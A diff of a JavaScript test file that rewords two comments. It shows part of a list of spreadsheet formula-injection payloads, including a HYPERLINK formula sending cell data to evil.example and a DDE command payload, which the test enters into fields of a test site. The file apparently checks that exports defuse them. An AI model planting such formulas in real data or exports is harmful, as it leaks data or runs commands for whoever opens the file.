@@ -6,7 +6,7 @@ const site = await openTestSite();
 afterAll(site.close);
 const admin = await site.admin();
 
-/** What Excel, LibreOffice, Numbers or Google’s sheets would run, or send to somebody. */
+/** What Excel, LibreOffice, Numbers or Google’s sheets would run, or send elsewhere. */
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/"&A1)',
   '=cmd|" /C calc"!A0',
@@ -25,7 +25,7 @@ const FORMULAS = [
   'plain\r\n=1+1',
 ];
 
-/** A building in which every text that somebody can enter is a formula. */
+/** A building in which every text that a person can enter is a formula. */
 async function hostileBuilding() {
   for (const [n, formula] of FORMULAS.entries()) {
     const line = formula.replace(/[\r\n]+/g, ' ').trim();
